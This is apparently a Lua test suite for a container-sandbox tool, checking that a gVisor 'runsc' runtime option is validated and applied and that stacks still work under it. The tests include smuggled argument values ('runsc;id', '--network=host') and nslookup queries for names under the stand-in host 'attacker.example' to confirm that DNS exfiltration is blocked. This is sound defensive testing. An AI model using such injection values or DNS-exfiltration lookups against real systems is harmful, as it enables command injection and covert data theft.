-- `runtime = "runsc"`, gVisor's user-space kernel under every container of a stack.
-- The option is checked in two places: its shape by the C core (with the plan putting
-- HostConfig.Runtime on every container, the forwarder included), and its registration by the
-- engine's /info before anything is created. Under runsc the conformance probes, healthchecks,
-- exec, restart with new ports, capture and the proxy sidecar must all still work, and the
-- kernel the sandbox sees must really be gVisor's. The runsc part needs the runtime registered
-- (spec/support/runsc-setup.sh, run by bootstrap.sh); without it those tests say why and skip.
local sandstack = require "sandstack"
local h = require "helpers"
local core = sandstack.core
local docker = sandstack.docker

local PREFIX = "sstest-runsc-"
local AGENT, SOCAT = "sandstack-test/agent:local", "sandstack-test/socat:local"

local function base(name, extra)
  local o = { project_name = name, agent_port = 8080, forwarder_image = SOCAT, pull = "never", image = AGENT,
    services = { { name = "sandbox", image = AGENT, command = { "agent" } } } }
  for k, v in pairs(extra or {}) do o[k] = v end
  return o
end

-- A plan's container create body as a string, whichever form the plan carries it in.
local function body_text(c)
  if type(c.body_json) == "string" then return c.body_json end
  return assert(core.json_encode(c.body))
end

describe("runtime option: shape and plan", function()
  local function refused(value)
    local ok, err = docker.plan("k1", base("sstest-runsc-shape", { runtime = value }))
    assert.is_nil(ok)
    return err
  end

  it("refuses a runtime that is not a conservative name, as compose/invalid_option naming the option", function()
    -- a value of the wrong type is a programming error: it raises at the caller's line
    for _, bad in ipairs { 42, true } do
      assert.error_matches(function() docker.plan("k1", base("sstest-runsc-shape", { runtime = bad })) end,
        "option 'runtime' must be a string", 1, true)
    end
    for _, bad in ipairs { "", "run sc", "../runsc", "-runsc", "--network=host", "runsc;id", ("r"):rep(65) } do
      local err = refused(bad)
      assert.equal("compose", err.kind, tostring(bad))
      assert.equal("invalid_option", err.reason, tostring(bad))
      assert.equal("runtime", err.option, tostring(bad))
    end
    for _, good in ipairs { "runsc", "runc", "io.containerd.runc.v2", "kata_1" } do
      local plan, err = docker.plan("k1", base("sstest-runsc-shape", { runtime = good }))
      assert.truthy(plan, good .. ": " .. tostring(err))
      assert.equal(good, plan.runtime)
    end
  end)

  it("has no per-service override: a service's own `runtime` is an unknown option", function()
    local o = base("sstest-runsc-shape", { runtime = "runsc" })
    o.services[1].runtime = "runc"
    -- an unknown key is a programming error: the binding raises it (API.md)
    local ok, err = pcall(docker.plan, "k1", o)
    assert.is_false(ok)
    assert.matches("unknown option 'runtime'", tostring(err), nil, true)
  end)

  it("puts HostConfig.Runtime on every container the plan makes, the forwarder and sidecars included", function()
    local o = base("sstest-runsc-plan", { runtime = "runsc", proxy_service = "proxy" })
    o.services[2] = { name = "db", image = AGENT, egress = "none" }
    o.services[3] = { name = "proxy", image = AGENT, egress = "allow", port = 3128 }
    local plan = assert(docker.plan("k1", o))
    assert.equal("runsc", plan.runtime)
    local roles = {}
    for _, c in ipairs(plan.containers) do
      roles[#roles + 1] = c.service
      assert.matches('"Runtime":%s*"runsc"', body_text(c), nil, false, c.service)
    end
    assert.equal(4, #roles) -- sandbox, db, proxy, forwarder
    local plain = assert(docker.plan("k1", base("sstest-runsc-plan")))
    assert.is_nil(plain.runtime)
    for _, c in ipairs(plain.containers) do assert.is_nil(body_text(c):find('"Runtime"', 1, true), c.service) end
  end)
end)

describe("sandstack conform --runtime", function()
  local function conform(argv)
    local seen
    local real = package.loaded["sandstack.conformance"]
    package.loaded["sandstack.conformance"] = { run = function(o) seen = o return true, {} end }
    local errs = {}
    local errout = { write = function(self, ...) for _, x in ipairs { ... } do errs[#errs + 1] = x end return self end }
    local ok, code = pcall(require("sandstack.cli").main, argv, io.stdout, errout)
    package.loaded["sandstack.conformance"] = real
    assert(ok, code)
    return code, seen, table.concat(errs)
  end

  it("passes the runtime to the conformance run", function()
    local code, seen = conform { "conform", "--runtime", "runsc" }
    assert.equal(0, code)
    assert.equal("runsc", seen.runtime)
    local _, plain = conform { "conform" }
    assert.is_nil(plain.runtime)
  end)

  it("refuses --runtime with the sbx backend rather than ignoring it", function()
    local code, seen, err = conform { "conform", "--backend", "sbx", "--runtime", "runsc" }
    assert.equal(1, code)
    assert.is_nil(seen)
    assert.matches("docker backend only", err, nil, true)
  end)
end)

-- Every object labelled with the project: containers (all states), networks and volumes.
local function labelled(eng, project)
  local filters = assert(core.json_encode { label = { "io.sandstack.project=" .. project } })
  local cs = assert(eng:call("GET", "/containers/json", nil, { query = { all = "1", filters = filters } }))
  local ns = assert(eng:call("GET", "/networks", nil, { query = { filters = filters } }))
  local vs = assert(eng:call("GET", "/volumes", nil, { query = { filters = filters } }))
  return #cs + #ns + #(vs.Volumes or {})
end

describe("runtime option on the engine #docker", function()
  local eng
  setup(function() eng = assert(sandstack.engine {}) end)
  teardown(function()
    docker.reap { prefix = PREFIX }
    eng:close()
  end)

  it("refuses an unregistered runtime before anything is created, listing the registered ones", function()
    local name = PREFIX .. "unknown-" .. core.random_hex(3)
    local events = {}
    local stack, err = docker.start(name, base(name, { runtime = "sstest-no-such-runtime",
      on_event = function(ev) events[#events + 1] = ev.phase end }))
    assert.is_nil(stack)
    assert.equal("compose", err.kind)
    assert.equal("invalid_option", err.reason)
    assert.equal("runtime", err.option)
    assert.equal("sstest-no-such-runtime", err.runtime)
    local info = assert(eng:call("GET", "/info"))
    local want = {}
    for n in pairs(info.Runtimes) do want[#want + 1] = n end
    table.sort(want)
    assert.same(want, err.runtimes)
    assert.truthy(#want > 0)
    for _, n in ipairs(want) do assert.truthy(err.message:find(n, 1, true), n .. " is not named in: " .. err.message) end
    assert.equal(0, labelled(eng, name), "something labelled with the project exists")
    for _, p in ipairs(events) do assert.is_nil(p:find("created", 1, true), "an object was created: " .. p) end
  end)
end)

local function registered(eng)
  local info = eng:call("GET", "/info")
  return info and info.Runtimes and info.Runtimes.runsc ~= nil
end

describe("stacks under runsc #docker", function()
  local eng, skip_why
  setup(function()
    eng = assert(sandstack.engine {})
    if not registered(eng) then
      skip_why = "runsc is not registered with this engine (spec/support/runsc-setup.sh registers it)"
    end
  end)
  teardown(function()
    docker.reap { prefix = PREFIX }
    eng:close()
  end)

  it("passes every conformance probe, the stand-in ones included, with every container under runsc", function()
    if skip_why then pending(skip_why) return end
    local lines = {}
    local out = { write = function(self, ...) for _, s in ipairs { ... } do lines[#lines + 1] = s end return self end }
    local ok, results = require("sandstack.conformance").run { runtime = "runsc", project_prefix = PREFIX .. "conf-", out = out }
    local text = table.concat(lines)
    assert.is_true(ok, text)
    local names = {}
    for _, r in ipairs(results) do
      assert.is_falsy(r.skip, "skipped: " .. r.name .. "\n" .. text)
      names[#names + 1] = r.name
    end
    local all = table.concat(names, "\n")
    assert.matches("every container of the stack runs under the runtime runsc", all, nil, true)
    assert.matches("sandbox: the internet stand-in is unreachable", all, nil, true)
    assert.matches("sandbox: service names on the sandbox network resolve and answer", all, nil, true)
  end)

  describe("one stack", function()
    local name, stack, dir
    setup(function()
      if skip_why then return end
      name = PREFIX .. core.random_hex(3)
      dir = h.must("mktemp -d /tmp/sstest-runsc.XXXXXX"):match("[^\n]+")
      stack = assert(docker.start(name, base(name, { runtime = "runsc", proxy_service = "proxy",
        capture_path = "/work", subnet_pool = "10.213.0.0/16",
        services = {
          { name = "sandbox", image = AGENT, command = { "agent" } },
          { name = "db", image = AGENT, command = { "agent" }, env = { AGENT_PORT = "5432" }, egress = "none" },
          { name = "proxy", image = AGENT, command = { "agent" }, env = { AGENT_PORT = "3128" }, egress = "allow", port = 3128 },
        },
        ready = { db = { test = { "agent", "connect", "127.0.0.1", "5432", "500" }, interval = 0.5 } } })))
    end)
    teardown(function()
      if stack then stack:destroy(); stack:close() end
      if dir then h.sh("rm -rf " .. h.q(dir)) end
    end)

    local function exec(service, argv)
      return assert(eng:exec(name .. "-" .. service, argv, { timeout = 30 }))
    end
    -- The engine's own healthcheck (not sandstack's readiness, which execs the test itself):
    -- its first run comes an interval after the start.
    local function engine_healthy(seconds)
      local t0 = core.engine_clock()
      repeat
        local st = assert(stack:status())
        if st.services.db.health == "healthy" then return core.engine_clock() - t0 end
        core.sleep(0.2)
      until core.engine_clock() - t0 > seconds
      return nil
    end
    local function get(path)
      return require("sandstack.docker.http").request { method = "GET", url = stack.endpoint .. path, timeout = 10 }
    end

    it("runs every container under runsc, the healthcheck included, and answers through the forwarder", function()
      if skip_why then pending(skip_why) return end
      for _, svc in ipairs { "sandbox", "db", "proxy", "forwarder" } do
        local info = assert(eng:call("GET", "/containers/" .. name .. "-" .. svc .. "/json"))
        assert.equal("runsc", info.HostConfig.Runtime, svc)
      end
      local waited = engine_healthy(20)
      assert.truthy(waited, "the engine never reported db healthy")
      print(("# the engine reported db healthy %.1f s after the start returned"):format(waited))
      assert.equal(200, get("/health").status)
    end)

    it("sees gVisor's kernel, not the host's", function()
      if skip_why then pending(skip_why) return end
      local host = h.must("uname -v"):match("[^\n]+")
      local inside = exec("sandbox", { "uname", "-v" })
      assert.equal(0, inside.exit_code)
      assert.not_equal(host, inside.stdout:match("[^\n]+"))
      local dmesg = exec("sandbox", { "dmesg" })
      assert.matches("Starting gVisor", dmesg.stdout, nil, true)
      -- control: the same command in a runc container of the engine shows the host's kernel
      local runc_name = PREFIX .. "runc-" .. core.random_hex(3)
      assert(eng:call("POST", "/containers/create", { Image = AGENT, Cmd = { "uname", "-v" },
        Labels = { ["io.sandstack.project"] = runc_name }, HostConfig = { NetworkMode = "none" } },
        { query = { name = runc_name } }))
      local ok = eng:call("POST", "/containers/" .. runc_name .. "/start", nil, { ok = { [304] = true } })
      local waited = ok and eng:call("POST", "/containers/" .. runc_name .. "/wait", nil, { timeout = 30 })
      local logs = eng:call("GET", "/containers/" .. runc_name .. "/logs", nil, { query = { stdout = "1" }, raw = true })
      eng:call("DELETE", "/containers/" .. runc_name, nil, { query = { force = "1" }, ok = { [404] = true } })
      assert.truthy(waited)
      assert.truthy(type(logs) == "string" and logs:find(host, 1, true), "runc control: " .. tostring(logs))
    end)

    it("refuses a syscall the host kernel has but gVisor does not implement (ENOSYS)", function()
      if skip_why then pending(skip_why) return end
      -- userfaultfd(2) and landlock_create_ruleset(2) (ABI query): both answer on this host
      local src = dir .. "/sysprobe.c"
      h.write_file(src, [[
#include <errno.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/syscall.h>
int main(void) {
  long u = syscall(SYS_userfaultfd, 02000000);
  int ue = u < 0 ? errno : 0;
  long l = syscall(444, (void *)0, 0, 1);
  int le = l < 0 ? errno : 0;
  printf("userfaultfd=%d landlock=%d\n", ue, le);
  return 0;
}
]])
      h.must(("cc -static -O1 -o %s/sysprobe %s && cd %s && tar cf probe.tar sysprobe"):format(h.q(dir), h.q(src), h.q(dir)))
      local on_host = h.must(h.q(dir .. "/sysprobe"))
      assert.matches("userfaultfd=0 landlock=0", on_host, nil, true) -- the host kernel has both
      assert(eng:call("PUT", "/containers/" .. name .. "-sandbox/archive", h.read_file(dir .. "/probe.tar"),
        { query = { path = "/" }, content_type = "application/x-tar" })) -- not /tmp: gVisor mounts its own tmpfs there
      local inside = exec("sandbox", { "/sysprobe" })
      assert.equal(0, inside.exit_code, inside.stderr)
      assert.matches("userfaultfd=38 landlock=38", inside.stdout, nil, true) -- 38: ENOSYS
    end)

    it("execs, wires the proxy sidecar, and keeps egress = none sidecars off the proxy's egress", function()
      if skip_why then pending(skip_why) return end
      local env = exec("sandbox", { "env" }).stdout
      assert.matches("ANTHROPIC_BASE_URL=http://proxy:3128", env, nil, true)
      local token = env:match("ANTHROPIC_API_KEY=(%x+)")
      assert.truthy(token and #token == 64, env)
      local penv = exec("proxy", { "env" }).stdout
      assert.matches("SANDSTACK_SESSION_TOKEN=" .. token, penv, nil, true)
      assert.equal(0, exec("sandbox", { "agent", "connect", "proxy", "3128", "2000" }).exit_code)
      assert.equal(0, exec("sandbox", { "agent", "connect", "db", "5432", "2000" }).exit_code)
    end)

    -- An exec's kill helper shares the sandbox's PID namespace; given a runsc container, runc puts
    -- it in the host's instead (PID 1 is the host's init), with KILL and SYS_PTRACE, and it never
    -- sees the exec. So under runsc the kill is a typed refusal and no helper is made at all.
    it("ends no exec through a helper: a timeout's kill is unsupported/runtime, and no helper was created", function()
      if skip_why then pending(skip_why) return end
      local r, err = stack:exec({ "sleep", "5" }, { timeout = 1 })
      assert.is_nil(r)
      assert.equal("timeout", err.kind)
      assert.is_false(err.killed)
      assert.equal("unsupported", err.kill_error and err.kill_error.kind, tostring(err))
      assert.equal("runtime", err.kill_error.reason)
      assert.matches("runsc", err.kill_error.message, nil, true)
      local helpers = h.sh("docker ps -a --filter label=io.sandstack.role=exec-kill --filter label=io.sandstack.project="
        .. name .. " -q")
      assert.equal("", helpers)
      local killed = h.sh("docker events --since 60s --until 0s --filter type=container --filter event=create "
        .. "--filter label=io.sandstack.role=exec-kill --filter label=io.sandstack.project=" .. name .. " --format x")
      assert.equal("", killed, "a kill helper was created")
    end)

    it("captures capture_path out of the gVisor sandbox", function()
      if skip_why then pending(skip_why) return end
      local nonce = core.random_hex(8)
      assert.equal(0, exec("sandbox", { "sh", "-c", "mkdir -p /work/sub && echo " .. nonce .. " > /work/sub/out.txt" }).exit_code)
      local out = dir .. "/capture"
      assert(stack:capture(out))
      assert.equal(nonce .. "\n", h.read_file(out .. "/work/sub/out.txt") or h.read_file(out .. "/sub/out.txt"))
    end)

    it("restarts with a new published port and answers on it", function()
      if skip_why then pending(skip_why) return end
      local p1 = stack.port
      assert(stack:restart { timeout = 1 })
      assert.not_equal(p1, stack.port)
      assert.equal(200, get("/health").status)
      assert.truthy(engine_healthy(20), "the engine never reported db healthy after the restart")
      assert.matches("Starting gVisor", exec("sandbox", { "dmesg" }).stdout, nil, true) -- still gVisor
    end)

    -- A resolver that logs every name it is asked, in an "internet" namespace of this test: a
    -- veth to a netns, on a /30 of its own (sandstack.standin's 198.51.100.0/30 may be another
    -- test's at the same time, and the host routes that /30 to the first one made). The attacks
    -- ask it directly; the control (the egress = allow proxy) asks it last, so its name in the
    -- log proves that the path would have carried the others.
    it("sends no DNS query out of the sandbox or an egress = none sidecar (the egress sidecar's reaches)", function()
      if skip_why then pending(skip_why) return end
      if not require("sandstack.conformance").is_root() then pending("needs root for the resolver's namespace") return end
      local tag = core.random_hex(3)
      local ns, k = PREFIX .. "dns-" .. tag, 4 + tonumber(tag, 16) % 56 -- 198.51.100.16 .. .239
      local hostif, nsif = "sr" .. tag .. "h", "sr" .. tag .. "n"
      local host_ip, addr = ("198.51.100.%d"):format(4 * k + 1), ("198.51.100.%d"):format(4 * k + 2)
      local log = dir .. "/queries"
      local function down()
        h.sh(("ip link del %s; ip netns del %s"):format(hostif, h.q(ns)))
      end
      local pid
      local ok, err = pcall(function()
        h.must(("ip netns add %s && ip link add %s type veth peer name %s && ip link set %s netns %s"
          .. " && ip addr add %s/30 dev %s && ip link set %s up && ip netns exec %s ip addr add %s/30 dev %s"
          .. " && ip netns exec %s ip link set %s up"):format(h.q(ns), hostif, nsif, nsif, h.q(ns), host_ip, hostif,
          hostif, h.q(ns), addr, nsif, h.q(ns), nsif))
        pid = h.start(("ip netns exec %s setsid python3 spec/support/dns_logger.py %s 53 %s >%s 2>&1 </dev/null")
          :format(h.q(ns), addr, h.q(log), h.q(dir .. "/logger.out")))
        for _ = 1, 50 do
          if (h.read_file(dir .. "/logger.out") or ""):find("listening", 1, true) then break end
          core.sleep(0.1)
        end
        local nonce = core.random_hex(4)
        exec("sandbox", { "nslookup", "sbx-" .. nonce .. ".attacker.example", addr })
        exec("db", { "nslookup", "db-" .. nonce .. ".attacker.example", addr })
        exec("proxy", { "nslookup", "control-" .. nonce .. ".attacker.example", addr })
        local seen = ""
        for _ = 1, 50 do
          seen = h.read_file(log) or ""
          if seen:find("control-" .. nonce, 1, true) then break end
          core.sleep(0.1)
        end
        assert.truthy(seen:find("control-" .. nonce, 1, true), "control: the proxy's query never arrived: " .. seen
          .. (h.read_file(dir .. "/logger.out") or ""))
        assert.is_nil(seen:find("sbx-" .. nonce, 1, true), "the sandbox's query left the stack:\n" .. seen)
        assert.is_nil(seen:find("db-" .. nonce, 1, true), "the egress = none sidecar's query left the stack:\n" .. seen)
      end)
      if pid then h.stop(pid) end
      down()
      assert(ok, err)
    end)
  end)
end)

-- A snapshot's helpers (sandstack-tree copying and comparing the volumes) run under the stack's
-- runtime: seen in the create bodies the engine received (through the engine double's "record"), and by
-- what they did under gVisor (a restore with the files, owners and modes; changes; a FIFO,
-- which gVisor would keep in its memory, refused).
describe("a snapshot of a stack under runsc #docker", function()
  local eng, rec, name
  setup(function() eng = assert(sandstack.engine {}) end)
  teardown(function()
    if name then docker.reap { prefix = name } end
    for _, s in ipairs(docker.snapshots { source = name } or {}) do docker.remove_snapshot(s) end
    if rec then rec.stop() end
    eng:close()
  end)

  it("copies, compares and restores the volumes in helpers under runsc", function()
    if not registered(eng) then pending("runsc is not registered with this engine") return end
    rec = require("engine_double").start("record", { engine = (os.getenv("DOCKER_HOST")
      or "unix:///var/run/docker.sock"):match("^unix://(.+)$") or "/var/run/docker.sock" })
    name = PREFIX .. "snap-" .. core.random_hex(3)
    local o = base(name, { runtime = "runsc", docker_host = rec.host, volumes = { { name = "workspace" } } })
    o.services[1].volumes = { { name = "workspace", target = "/workspace" } }
    local stack = assert(docker.start(name, o))
    -- the files' side, by a container of the test's own (the sandbox may not chown)
    local function on_volume(volume, cmd)
      return h.must(("docker run --rm --network none -v %s:/workspace %s sh -c %s"):format(h.q(volume), AGENT, h.q(cmd)))
    end
    local LIST = "cd /workspace && ls -lnR --full-time . && md5sum f sub/g"
    on_volume(name .. "-workspace", "cd /workspace && echo one > f && mkdir sub && echo two > sub/g && ln -s f link"
      .. " && chown 1234:5678 sub/g && chmod 4750 sub/g && mkfifo pipe")
    -- gVisor keeps a FIFO it makes in its own memory: refused, not lost
    local none, err = stack:snapshot()
    assert.is_nil(none)
    assert.equal("special_file", err.reason)
    assert.same({}, assert(docker.snapshots { source = name }))
    on_volume(name .. "-workspace", "rm /workspace/pipe")
    local before = on_volume(name .. "-workspace", LIST)
    local snap = assert(stack:snapshot())
    on_volume(name .. "-workspace", "echo ONE > /workspace/f && echo new > /workspace/n")
    assert.same({ { path = "f", kind = "changed" }, { path = "n", kind = "added" } },
      assert(stack:changes { since = snap }).workspace.workspace)
    local RP = name .. "-r"
    local r = assert(docker.start(RP, { from_snapshot = snap, project_name = RP }))
    assert.equal(before, on_volume(RP .. "-workspace", LIST))
    assert.matches("4750", (on_volume(RP .. "-workspace", "stat -c %a /workspace/sub/g")), nil, true)
    assert(r:destroy()); r:close()
    assert(stack:destroy()); stack:close()
    assert(docker.remove_snapshot(snap))
    local helpers = 0
    for _, q in ipairs(rec.requests()) do
      local c = q.target:match("^/v[%d.]+/containers/create%?name=([^&]*%-snapshot%-[^&]*)")
      if c then
        helpers = helpers + 1
        assert.equal("runsc", assert(core.json_decode(q.body)).HostConfig.Runtime, c)
      end
    end
    assert.equal(4, helpers) -- the refused copy, the snapshot's copy, the comparison, the restore's copy
  end)
end)
